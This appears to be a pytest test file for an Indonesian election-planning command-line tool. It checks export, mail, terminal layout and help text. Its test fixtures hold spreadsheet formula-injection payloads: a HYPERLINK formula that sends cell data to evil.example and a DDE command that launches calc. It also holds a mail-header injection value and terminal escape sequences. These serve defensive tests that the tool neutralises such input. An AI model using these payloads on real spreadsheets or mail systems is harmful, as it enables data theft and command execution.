"""Issue 21, field test 3: what a Polres officer, a KPU admin and a briefer met at 80 columns, in mail and in
Excel. Each finding reproduced as the user met it."""

import json
import uuid

import pytest

from conftest import commands, write_plan

REGIONS_PLAN = """\
id: {plan_id}
name: Rencana Wilayah
vote_date: 2024-11-27
timezone: Asia/Makassar
regions:
  - id: belu
    name: Kabupaten Belu
  - id: ambon
    name: Kota Ambon
stakeholders:
  - id: polres
    name: Polres {{region}}
    per_region: true
  - id: kpu
    name: KPU Provinsi
phases:
  - id: persiapan
    name: Persiapan
    start: H-200
    end: H-1
"""

POLRES = """\
stakeholder: polres
phase: persiapan
items:
  - id: evaluasi-pemilu-2024
    title: Evaluasi pengamanan TPS pada Pemilu Februari 2024 di wilayah Polres
    due: H-100
    owner: Kabag Ops
  - id: pengamanan-gudang-logistik
    title: Penjagaan gudang logistik KPU kabupaten/kota 1x24 jam
    due: H-40
    owner: Sat Samapta
    critical: true
"""

KPU = """\
stakeholder: kpu
phase: persiapan
items:
  - id: nphd
    title: Pencairan NPHD
    due: H-150
    target: 100
    unit: "%"
"""

RISKS = """\
risks:
  - id: politik-uang
    title: Politik uang
    dimension: kontestasi
    level: tinggi
    regions: [belu]
    mitigations: [polres/evaluasi-pemilu-2024]
"""


@pytest.fixture
def regions_plan(isolated):
    root = write_plan(isolated / "wilayah", REGIONS_PLAN.format(plan_id=f"wilayah-{uuid.uuid4().hex[:8]}"),
                      {"polres.yaml": POLRES, "kpu.yaml": KPU})
    (root / "risks").mkdir()
    (root / "risks" / "risiko.yaml").write_text(RISKS, encoding="utf-8")
    return root


@pytest.fixture(params=["sqlite", "postgres"])
def journal_env(request):
    if request.param == "sqlite":
        return {}
    return {"PILKADA_DATABASE_URL": request.getfixturevalue("pg_url")}


# -- 2. Declarations and assessments are the plan's own entries


def test_declarations_and_assessments_are_in_the_plan(run, regions_plan, journal_env):
    plan = ["--plan", str(regions_plan)]
    if journal_env:
        assert run("db", "init", *plan, env=journal_env).exit_code == 0
    declared = run("gonogo", "--declare", "no-go", "--stakeholder", "polres", "--region", "belu", "--note", "siap",
                   *plan, env=journal_env)
    assert declared.exit_code == 0, declared.output
    assessed = run("risk", "assess", "politik-uang@belu", "--level", "sedang", *plan, env=journal_env)
    assert assessed.exit_code == 0, assessed.output

    screen = run("status", *plan, env=journal_env)
    assert screen.exit_code == 0 and "tidak ada lagi" not in screen.stdout
    assert json.loads(run("status", "--json", *plan, env=journal_env).stdout)["unknown_items"] == []
    checked = run("check", *plan, env=journal_env)
    assert checked.exit_code == 0 and "0 kesalahan, 0 peringatan" in checked.stdout, checked.output
    for lang, declare, assess in (("id", "Go/No-Go", "penilaian"), ("en", "Go/No-Go", "assessment")):
        log = run("log", "--lang", lang, *plan, env=journal_env).stdout
        assert "kind." not in log and "tidak ada lagi" not in log and "no longer" not in log
        assert declare in log and assess in log
        assert "NO-GO" in log  # the call the office made, and the level it gave
        assert ("sedang" if lang == "id" else "medium") in log


def test_entries_of_a_risk_dropped_from_the_plan_are_still_reported(run, regions_plan):
    plan = ["--plan", str(regions_plan)]
    assert run("risk", "assess", "politik-uang@belu", "--level", "sedang", *plan).exit_code == 0
    (regions_plan / "risks" / "risiko.yaml").write_text(RISKS.replace("politik-uang", "mahar-politik"))
    assert "risk/politik-uang@belu" in run("check", *plan).stdout


def test_a_status_counted_in_sql_knows_them_too(run, regions_plan, journal_env, monkeypatch):
    monkeypatch.setattr("pilkada_cli.cli.items.COUNT_IN_SQL_FROM", 0)
    plan = ["--plan", str(regions_plan)]
    if journal_env:
        assert run("db", "init", *plan, env=journal_env).exit_code == 0
    run("gonogo", "--declare", "go", "--stakeholder", "polres", "--region", "belu", *plan, env=journal_env)
    run("risk", "assess", "politik-uang@belu", "--level", "sedang", *plan, env=journal_env)
    run("tick", "polres/evaluasi-pemilu-2024@belu", *plan, env=journal_env)
    screen = run("status", *plan, env=journal_env)
    assert screen.exit_code == 0 and "tidak ada lagi" not in screen.stdout, screen.output


# -- 3. Mail addresses as mail programs write them

from test_summary import Inbox, free_port, smtp_server  # noqa: E402,F401 - a real SMTP server on loopback


def _delivered(inbox, wait: float = 5.0):
    import time

    for _ in range(int(wait / 0.05)):
        if inbox.messages:
            return inbox.messages
        time.sleep(0.05)
    return inbox.messages


def test_display_names_in_the_sender_and_the_recipients(run, plan_dir, smtp_server):
    from email import message_from_bytes
    from email.policy import default

    controller, inbox = smtp_server
    text = (plan_dir / "pilkada.yaml").read_text()
    (plan_dir / "pilkada.yaml").write_text(text + 'notify:\n  mail_from: "Pilkada KPU Belu <pilkada@kpu-belu.example>"\n')
    assert run("check", "--plan", str(plan_dir)).exit_code == 0
    env = {"PILKADA_SMTP_HOST": "127.0.0.1", "PILKADA_SMTP_PORT": str(controller.port)}
    result = run("summary", "--plan", str(plan_dir), "--on", "2024-08-27", "--mail-to", "Ketua KPU <ketua@kpu.example>",
                 "--mail-to", '"Kabag Ops, Polres" <ops@polres.example>', "--mail-to", "piket@polres.example", env=env)
    assert result.exit_code == 0, result.output
    envelope = _delivered(inbox)[0]
    assert envelope.mail_from == "pilkada@kpu-belu.example"
    assert sorted(envelope.rcpt_tos) == ["ketua@kpu.example", "ops@polres.example", "piket@polres.example"]
    message = message_from_bytes(envelope.content, policy=default)
    assert message["From"].addresses[0].display_name == "Pilkada KPU Belu"
    assert [a.display_name for a in message["To"].addresses] == ["Ketua KPU", "Kabag Ops, Polres", ""]
    assert message["Message-ID"].endswith("@kpu-belu.example>")  # the sender's domain, not "@pilkada"


@pytest.mark.parametrize("address", ["Ketua KPU ketua@kpu.example", "a@b.example, c@d.example", "tim: a@b.example;",
                                     "Ketua <ketua@>", "ketua@kpu.example\nBcc: semua@kpu.example", "<>", ""])
def test_what_is_not_one_address_is_refused_and_check_says_so(run, plan_dir, address):
    result = run("summary", "--plan", str(plan_dir), "--on", "2024-08-27", "--mail-to", address)
    assert result.exit_code == 2 and "tidak sah" in result.stderr and result.stdout == ""
    text = (plan_dir / "pilkada.yaml").read_text()
    (plan_dir / "pilkada.yaml").write_text(text + "notify:\n  mail_from: " + json.dumps(address) + "\n")
    checked = run("check", "--plan", str(plan_dir))
    assert checked.exit_code == 2 and "pilkada.yaml:" in checked.stdout and "notify.mail_from" in checked.stdout


# -- 4. A spreadsheet never runs what a plan says

FORMULAS = """\
stakeholder: kpu
phase: persiapan
items:
  - id: tautan
    title: '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    owner: '@SUM(1+1)*cmd|'' /C calc''!A0'
    due: H-100
  - id: plus
    title: "+62 812 3456"
    owner: "-Sekretariat"
    due: H-90
"""


def _excel_rows(text: str) -> list[list[str]]:
    import csv
    import io

    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers(run, isolated):
    root = write_plan(isolated / "rumus", REGIONS_PLAN.format(plan_id="rumus"), {"kpu.yaml": FORMULAS})
    rows = _excel_rows(run("export", "--excel", "--plan", str(root), "--on", "2024-08-28").stdout)
    head, *body = rows
    cells = {row[0]: dict(zip(head, row)) for row in body}
    assert cells["kpu/tautan"]["Kegiatan"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
    assert cells["kpu/tautan"]["Penanggung jawab"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["kpu/plus"]["Kegiatan"] == "'+62 812 3456" and cells["kpu/plus"]["Penanggung jawab"] == "'-Sekretariat"
    assert cells["kpu/tautan"]["Sisa hari"] == "-9"  # a number, not text: no apostrophe
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in body for cell in row)
    plain = run("export", "--format", "csv", "--plan", str(root), "--on", "2024-08-28").stdout
    assert '"=HYPERLINK(' in plain  # the CSV for programs keeps the exact text


def test_excel_speaks_the_output_language_and_so_does_the_calendar(run, plan_dir):
    from icalendar import Calendar

    for lang, headers, state, yes in (("id", ["Id", "Pemangku kepentingan"], "terlambat", "ya"),
                                      ("en", ["Id", "Stakeholder"], "overdue", "yes")):
        head, *body = _excel_rows(run("export", "--excel", "--lang", lang, "--plan", str(plan_dir),
                                      "--on", "2024-08-28").stdout)
        assert head[:2] == headers and "state" not in head
        cells = {row[0]: dict(zip(head, row)) for row in body}
        assert cells["polda/apel"][head[9]] == state
        assert cells["polda/pemetaan-kerawanan"][head[14]] == yes
        calendar = Calendar.from_ical(run("export", "--format", "ics", "--lang", lang, "--plan", str(plan_dir),
                                          "--on", "2024-08-28").stdout.encode())
        apel = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("polda/apel@"))
        assert f": {state}" in str(apel["DESCRIPTION"])
        vote_day = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("hari-h@"))
        assert str(vote_day["SUMMARY"]).startswith("Hari H" if lang == "id" else "Vote day")


# -- 5. Control characters in plan text

CONTROLS = """\
stakeholder: kpu
phase: persiapan
items:
  - id: baris
    title: "Pembentukan PPK\\r\\ndan PPS"
    due: H-100
  - id: layar
    title: Sortir
    owner: "Sekretariat\\x1b[31m"
    tags: ["logistik\\x07"]
    due: H-90
  - id: catatan
    title: Catatan panjang
    notes: |
      Baris pertama
      baris kedua\twith a tab
  - id: catatan-rusak
    title: Catatan rusak
    notes: "awal\\x1b]52;c;aGVsbG8=\\x07akhir"
"""


def test_check_names_every_control_character_with_file_and_line(run, isolated):
    plan = REGIONS_PLAN.format(plan_id="kendali").replace("name: Rencana Wilayah", 'name: "Rencana\\r\\nWilayah"')
    root = write_plan(isolated / "kendali", plan, {"kpu.yaml": CONTROLS})
    checked = run("check", "--plan", str(root))
    assert checked.exit_code == 2
    lines = [line for line in checked.stdout.splitlines() if "karakter kendali" in line]
    places = [line.split(": ", 1)[0].removeprefix("kendali/") for line in lines]
    assert places == ["pilkada.yaml:2", "checklists/kpu.yaml:5", "checklists/kpu.yaml:9", "checklists/kpu.yaml:10",
                      "checklists/kpu.yaml:19"], checked.stdout  # the note of line 14 may span lines
    assert "(\\n, \\r)" in lines[0] and "(\\x1b)" in lines[2] and "(\\x07, \\x1b)" in lines[4]


@pytest.mark.parametrize("command", [["export", "--format", "ics"], ["export", "--excel"], ["report", "--html", "b.html"],
                                     ["summary", "--mail-to", "ops@polda.example"], ["status"], ["timeline"]])
def test_no_export_page_or_mail_crashes_on_them(run, isolated, command):
    plan = REGIONS_PLAN.format(plan_id="kendali").replace("name: Rencana Wilayah", 'name: "Rencana\\r\\nWilayah"')
    root = write_plan(isolated / "kendali", plan, {"kpu.yaml": CONTROLS})
    result = run(*command, "--plan", str(root), env={"PILKADA_SMTP_HOST": "127.0.0.1",
                                                     "PILKADA_SMTP_PORT": str(free_port())})
    assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output
    assert "pilkada.yaml:2" in result.stderr and "kpu.yaml:5" in result.stderr


# -- 1. At 80 columns nothing a person needs is dropped


def _lines_fit(text: str, columns: int = 80) -> None:
    assert all(len(line.rstrip()) <= columns for line in text.splitlines()), text


def test_log_at_80_columns_keeps_who_value_and_note(run, regions_plan):
    plan = ["--plan", str(regions_plan)]
    run("tick", "polres/evaluasi-pemilu-2024@belu", "--note", "Rapat evaluasi bersama Bawaslu", "--by", "Bripka Andi",
        "--on", "2024-08-01", *plan)
    run("tick", "kpu/nphd", "--value", "65", "--by", "Bu Sari", *plan)
    for item in ("polres/evaluasi-pemilu-2024@belu", None):
        screen = run("log", *(["--item", item] if item else []), *plan, env={"COLUMNS": "80"}).stdout
        _lines_fit(screen)
        assert "Bripka Andi" in screen and "Rapat evaluasi bersama Bawaslu" in screen
        if item is None:
            assert "Bu Sari" in screen and "65" in screen


def test_list_at_80_columns_keeps_state_and_due(run, regions_plan, monkeypatch):
    monkeypatch.setattr("pilkada_cli.cli.items.into_pipe", lambda: False)  # a person at an 80-column terminal
    plan = ["--plan", str(regions_plan)]
    run("tick", "polres/evaluasi-pemilu-2024@belu", "--on", "2024-08-20", *plan)
    for columns in ("80", "100"):
        screen = run("list", "--region", "belu", "--stakeholder", "polres", "--on", "2024-11-20", *plan,
                     env={"COLUMNS": columns}).stdout
        _lines_fit(screen, int(columns))
        done = screen[screen.index("polres/evaluasi-pemilu-2024@belu") + 1:].split("polres/")[0]
        late = screen[screen.index("polres/pengamanan-gudang-logistik@belu") + 1:].split("polres/")[0]
        assert "selesai" in done and "19 Agu 2024" in done and "(H-100)" in done  # a ticked item looks done
        assert "terlambat 33 hari" in late and "18 Okt 2024" in late and "(H-40)" in late
        assert "Kabag Ops" in screen or "Tidak muat: Penanggung jawab" in screen  # shown, or said to be left out


def test_a_column_left_out_is_named_with_how_to_see_it(run, regions_plan):
    screen = run("status", "--region", "belu", "--on", "2024-11-20", "--plan", str(regions_plan),
                 env={"COLUMNS": "80"}).stdout
    _lines_fit(screen)
    assert "Tidak muat: Tenggat, Penanggung jawab (lihat --json, atau layar lebih lebar)" in screen
    wide = run("status", "--region", "belu", "--on", "2024-11-20", "--plan", str(regions_plan),
               env={"COLUMNS": "160"}).stdout
    assert "Tidak muat" not in wide and "Sat Samapta" in wide


# -- minors: overdue lists, days late, the progress line


def test_overdue_lists_most_late_first_and_say_how_late(run):
    screen = run("status", "--on", "2024-08-01", "--limit", "30").stdout
    overdue = screen.split("terlambat (")[1]
    late = [int(days) for days in __import__("re").findall(r"│\s+(\d+) hari │", overdue)]
    critical = [line for line in overdue.splitlines() if "‼" in line]
    assert late and " -" not in overdue and "Sisa hari" not in screen
    assert "Terlambat" in overdue.splitlines()[3]  # the column says what the numbers are
    # critical first, each group most late first: the same order as the daily summary
    summary = run("summary", "--dry-run", "--on", "2024-08-01").stdout.split("*Semua yang terlambat")[1]
    order = __import__("re").findall(r"- (?:‼ )?([a-z-]+/[a-z0-9-]+(?:@[a-z-]+)?):", summary)
    shown = __import__("re").findall(r"│ ([a-z-]+/[a-z0-9-]+(?:@[a-z-]+)?)\s+│", overdue)
    assert shown[:4] == order[:4], (shown, order)
    assert late[:len(critical)] == sorted(late[:len(critical)], reverse=True)
    assert __import__("re").search(r"terlambat \d{3} hari", summary)


def test_the_progress_line_never_breaks_mid_count(run):
    screen = run("status", "--on", "2024-08-01", env={"COLUMNS": "80"}).stdout
    lines = screen.splitlines()
    bar = next(n for n, line in enumerate(lines) if line.startswith("Progres keseluruhan"))
    assert lines[bar].rstrip().endswith("%") and __import__("re").match(r"0/\d+ selesai · ", lines[bar + 1])
    assert lines[bar + 1].rstrip().endswith("segera")
    wide = run("status", "--on", "2024-08-01", env={"COLUMNS": "120"}).stdout
    assert any(line.startswith("Progres keseluruhan") and line.rstrip().endswith("segera") for line in wide.splitlines())


def test_tick_from_reports_every_bad_line_and_each_office_once(run, regions_plan, isolated):
    plan = ["--plan", str(regions_plan)]
    bad = isolated / "rusak.txt"
    bad.write_text("polres/evaluasi-pemilu-2024@belu\npolres/nope@belu\nkpu/nphd 50\npolres/evaluasi-pemilu-2024\n"
                   + "".join(f"kpu/salah-{n}\n" for n in range(30)), encoding="utf-8")
    refused = run("tick", "--from", str(bad), *plan)
    assert refused.exit_code == 2 and "32 baris di" in refused.stderr and "Tidak ada yang ditulis" in refused.stderr
    for line in (2, 4, 5, 22):
        assert f"rusak.txt:{line}: " in refused.stderr
    assert "rusak.txt:23: " not in refused.stderr and "… dan 12 baris lagi" in refused.stderr  # 20 shown
    assert json.loads(run("log", "--json", *plan).stdout) == []
    good = isolated / "baik.txt"
    good.write_text("polres/evaluasi-pemilu-2024@belu\nkpu/nphd 50\npolres/pengamanan-gudang-logistik@belu\n")
    said = run("tick", "--from", str(good), *plan).stdout.splitlines()
    assert said[0].startswith("✔ polres/evaluasi-pemilu-2024@belu") and said[1].startswith("✔ polres/pengamanan-gudang")
    assert said[2] == "  Progres Polres Kabupaten Belu: 100,0%"  # once, after the office's items
    assert said[3].startswith("✔ kpu/nphd") and said[4].startswith("  Progres KPU Provinsi") and len(said) == 5


def test_cron_takes_a_dotted_time_and_says_what_debian_does(run, plan_dir):
    from datetime import datetime, time, timezone
    from zoneinfo import ZoneInfo

    result = run("cron", "--plan", str(plan_dir), "--at", "6.30")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[-1].startswith("30 6 * * * ") and lines[-2] == "CRON_TZ=Asia/Makassar"
    note = lines[-3]
    assert note.startswith("# Cron Debian/Ubuntu mengabaikan CRON_TZ")
    today = datetime.now(timezone.utc).astimezone(ZoneInfo("Asia/Makassar")).date()
    local = datetime.combine(today, time(6, 30), tzinfo=ZoneInfo("Asia/Makassar")).astimezone()
    if local.utcoffset() != datetime.combine(today, time(6, 30), tzinfo=ZoneInfo("Asia/Makassar")).utcoffset():
        assert f"'{local.minute} {local.hour} * * *' untuk 06:30" in note
    for bad in ("6.3", "6:3", "24.00", "6,30", "jam 6"):
        assert run("cron", "--plan", str(plan_dir), "--at", bad).exit_code == 2


# -- minors: help


def test_help_names_what_each_option_takes_as_a_person_would(run):
    import re

    for path, _ in commands():
        shown = run(*path, "--help", env={"COLUMNS": "80"})
        assert shown.exit_code == 0, path
        text = re.sub(r"\[[0-9x<>=]+\]", "", shown.stdout.split("Contoh")[0])  # Click's ranges, [10<=x<=86400]
        assert "<" not in text and "{" not in text, (path, text)
        assert not re.search(r"\[?[a-z_]+\]?\.\.\.", text.splitlines()[0]), text  # `ITEM...`, never `items...`
    assert " tick [OPSI] [ITEM...]" in run("tick", "--help").stdout
    assert " risk assess [OPSI] KERAWANAN" in run("risk", "assess", "--help").stdout
    assert " journal import [OPSI] BERKAS" in run("journal", "import", "--help").stdout
    assert "--plan FOLDER" in run("--help").stdout and "--by NAMA" in run("tick", "--help").stdout


def test_help_in_english_too(isolated):
    import subprocess
    import sys

    shown = subprocess.run([sys.executable, "-m", "pilkada_cli", "risk", "assess", "--help", "--lang", "en"],
                           capture_output=True, text=True, env={**__import__("os").environ, "COLUMNS": "80"})
    assert "Usage: pilkada risk assess [OPTIONS] RISK" in shown.stdout and "--note TEXT" in shown.stdout
    assert "--by NAME" in shown.stdout and "On whose behalf" in shown.stdout and "<str>" not in shown.stdout


def test_the_command_list_never_cuts_a_summary_at_an_abbreviation(run):
    from pilkada_cli.i18n.help_text import HELP_TEXT

    listing = next(block for block in run("--help", env={"COLUMNS": "80"}).stdout.split("\n\n")
                   if block.startswith("Perintah:"))
    for line in listing.splitlines()[1:]:
        summary = line.split(None, 1)[1]
        assert summary.endswith(("...", ".")) and not summary.endswith(("mis.", "e.g.", "dll.")), line
    for key, texts in HELP_TEXT.items():  # the first sentence of a command's help, in either language
        if key.count(".") == 1 or key in ("help.risk.assess", "help.db.init") or key.startswith("help.journal."):
            for text in texts:
                assert not any(word in text.split(". ")[0].split() for word in ("mis.", "e.g.", "dll.")), key
    assert "Atas nama siapa" in run("tick", "--help").stdout  # --by: on whose behalf, not who writes


# -- minors: wording


def test_nothing_similar_is_left_out_not_a_dash(run, regions_plan):
    plan = ["--plan", str(regions_plan)]
    for args in (["tick", "polres/evaluasi-pemilu-2024@zzzz"], ["status", "--region", "zzzz"],
                 ["risk", "assess", "qqqq@belu", "--level", "sedang"], ["list", "--phase", "zzzz"]):
        said = run(*args, *plan).stderr
        assert ": -" not in said and "Yang ada:" in said, said
    close = run("status", "--region", "bel", *plan).stderr
    assert "Yang mirip: belu" in close and "ambon" not in close


def test_a_risk_named_in_a_region_it_does_not_concern_says_where_it_applies(run, regions_plan):
    said = run("risk", "assess", "politik-uang@ambon", "--level", "sedang", "--plan", str(regions_plan))
    assert said.exit_code == 2 and "Sebut wilayahnya" not in said.stderr
    assert "politik-uang tidak berlaku di wilayah ambon; hanya di: belu" in said.stderr
    recorded = run("risk", "assess", "politik-uang@belu", "--level", "sedang", "--on", "2024-08-01",
                   "--plan", str(regions_plan)).stdout
    assert recorded.strip() == "✔ politik-uang@belu: sedang (sebelum pemungutan suara) dicatat"


def test_the_vote_day_phase_is_not_on_its_last_day(run):
    screen = run("status", "--on", "2024-11-27").stdout
    assert "Pemungutan suara (Hari H) (hari terakhir)" not in screen and "Pemungutan suara (Hari H)" in screen
    digest = run("summary", "--dry-run", "--on", "2024-11-27").stdout
    assert "- Pemungutan suara (Hari H): hari ini" in digest


def test_log_summaries_names_the_scope(run, plan_dir):
    run("summary", "--plan", str(plan_dir), "--on", "2024-08-02")
    run("summary", "--plan", str(plan_dir), "--on", "2024-08-02", "--stakeholder", "polda")
    shown = run("log", "--summaries", "--plan", str(plan_dir)).stdout
    assert "seluruh rencana" in shown and "Pemangku kepentingan: polda" in shown and " all " not in shown
    assert [x["scope"] for x in json.loads(run("log", "--summaries", "--json", "--plan", str(plan_dir)).stdout)] == [
        "all", "stakeholder=polda"]  # JSON keeps the key


def test_a_declared_call_is_spelled_as_the_computed_one(run, regions_plan):
    plan = ["--plan", str(regions_plan)]
    for call, spelled in (("no-go", "NO-GO"), ("go", "GO")):
        assert run("gonogo", "--declare", call, "--stakeholder", "kpu", *plan).exit_code == 0
        data = json.loads(run("gonogo", "--json", *plan).stdout)
        kpu = next(o for o in data["offices"] if o["stakeholder"] == "kpu")
        assert kpu["declared"]["call"] == spelled and kpu["computed"] in ("GO", "NO-GO")
        assert kpu["call"] == ("NO-GO" if "NO-GO" in (spelled, kpu["computed"]) else "GO")
    assert "dinyatakan GO" in run("gonogo", "--stakeholder", "kpu", *plan).stdout


@pytest.mark.parametrize("seconds, code", [("99999999999999999999", 2), ("86401", 2), ("9", 2), ("86400", 0)])
def test_report_refresh_is_bounded(run, plan_dir, isolated, seconds, code):
    result = run("report", "--html", str(isolated / "b.html"), "--refresh", seconds, "--plan", str(plan_dir))
    assert result.exit_code == code, result.output
    if code:
        assert "di luar batas" in result.stderr and not (isolated / "b.html").exists()
    else:
        assert 'content="86400"' in (isolated / "b.html").read_text()


def test_completion_offers_a_bare_unique_id_as_tick_takes_it(regions_plan, monkeypatch, run):
    from pilkada_cli.cli import complete

    monkeypatch.chdir(regions_plan)
    assert complete.items("nph") == ["nphd"]
    assert complete.items("evaluasi-pemilu-2024@") == ["evaluasi-pemilu-2024@belu", "evaluasi-pemilu-2024@ambon"]
    assert "evaluasi-pemilu-2024" in complete.items("evaluasi")
    assert complete.items("polres/pengamanan-gudang-logistik@b") == ["polres/pengamanan-gudang-logistik@belu"]
    for bare in ("nphd", "evaluasi-pemilu-2024@ambon"):  # what it offers, tick takes
        assert run("tick", bare, "--plan", str(regions_plan)).exit_code == 0
    (regions_plan / "checklists" / "polda.yaml").write_text(
        "stakeholder: kpu\nitems:\n  - id: dobel\n    title: A\n    phase: persiapan\n")
    (regions_plan / "checklists" / "polres2.yaml").write_text(
        "stakeholder: polres\nitems:\n  - id: dobel\n    title: B\n    phase: persiapan\n")
    assert "dobel" not in complete.items("dob") and "kpu/dobel" in complete.items("kpu/d")  # ambiguous: full ids


def test_the_template_points_to_a_readme_section_that_exists(run, isolated):
    import re
    from pathlib import Path

    assert run("init", str(isolated / "baru"), "--vote-date", "2029-11-28").exit_code == 0
    pointers = re.findall(r'README[^"\n]*"([^"]+)"', (isolated / "baru" / "pilkada.yaml").read_text())
    headings = {line.lstrip("#").strip() for line in (Path(__file__).parents[1] / "README.md").read_text().splitlines()
                if line.startswith("#")}
    assert pointers and all(pointer in headings for pointer in pointers), (pointers, headings)


# -- minors: the briefing page

PACE_PLAN = REGIONS_PLAN.replace("  - id: ambon\n    name: Kota Ambon\n",
                                 "  - id: ambon\n    name: Kota Ambon\n  - id: alor\n    name: Kabupaten Alor\n")
PACE = "stakeholder: polres\nphase: persiapan\nitems:\n" + "".join(
    f"  - id: tugas-{n}\n    title: Tugas {n}\n    due: H-{100 + n}\n" for n in range(12)) + \
    "  - id: tunggu\n    title: Menunggu\n    due: H-5\n    critical: true\n    depends_on: [tugas-0]\n"


def _pace_rows(html: str) -> dict[str, str]:
    import re

    return {name: pace for pace, name in re.findall(r'<tr class="([a-z-]+)"><td>([^<]+)</td>', html)}


def test_region_colours_follow_one_stated_rule(run, isolated):
    root = write_plan(isolated / "laju", PACE_PLAN.format(plan_id="laju"), {"polres.yaml": PACE, "kpu.yaml": KPU})
    plan = ["--plan", str(root)]
    run("tick", *[f"polres/tugas-{n}@ambon" for n in range(12)], "--on", "2024-08-01", *plan)  # all it owes
    run("tick", *[f"polres/tugas-{n}@belu" for n in range(1, 12)], "--on", "2024-08-01", *plan)  # one of 12 late
    page = isolated / "b.html"
    assert run("report", "--html", str(page), "--on", "2024-09-01", *plan).exit_code == 0
    html = page.read_text(encoding="utf-8")
    rows = _pace_rows(html)
    # Alor: nothing done, 12 of 13 due: far behind. Belu: 1 of 13 late, 7.7 points: behind. Ambon: nothing
    # overdue, so never behind, whatever its progress.
    assert rows == {"Kabupaten Alor": "far-behind", "Kabupaten Belu": "behind", "Kota Ambon": "on-track"}
    assert list(rows) == ["Kabupaten Alor", "Kabupaten Belu", "Kota Ambon"]  # furthest behind first
    assert "tertinggal lebih dari 10 poin" in html and "Semestinya" in html


def test_the_chart_marks_today_in_words_and_no_mark_needs_a_font(run, isolated):
    root = write_plan(isolated / "laju", PACE_PLAN.format(plan_id="laju"), {"polres.yaml": PACE, "kpu.yaml": KPU})
    page = isolated / "b.html"
    assert run("report", "--html", str(page), "--on", "2024-11-20", "--plan", str(root)).exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert html.count('<text class="today"') == 2 and html.count(">hari ini</text>") == 2
    assert 'stroke="#b3261e"' not in html  # the line is not a series' red
    assert "⛔" not in html and '<svg class="mark"' in html and "menunggu polres/tugas-0@" in html
    assert "terlambat 104 hari" in html and ">-104<" not in html


def test_a_region_named_for_a_risk_in_a_plan_without_regions(run, plan_dir):
    (plan_dir / "risks").mkdir()
    (plan_dir / "risks" / "r.yaml").write_text(RISKS.replace("    regions: [belu]\n", "").replace(
        "polres/evaluasi-pemilu-2024", "polda/apel"), encoding="utf-8")
    said = run("risk", "assess", "politik-uang@belu", "--level", "sedang", "--plan", str(plan_dir))
    assert said.exit_code == 2 and "tanpa @wilayah" in said.stderr, said.output
    assert run("risk", "assess", "politik-uang", "--level", "sedang", "--plan", str(plan_dir)).exit_code == 0
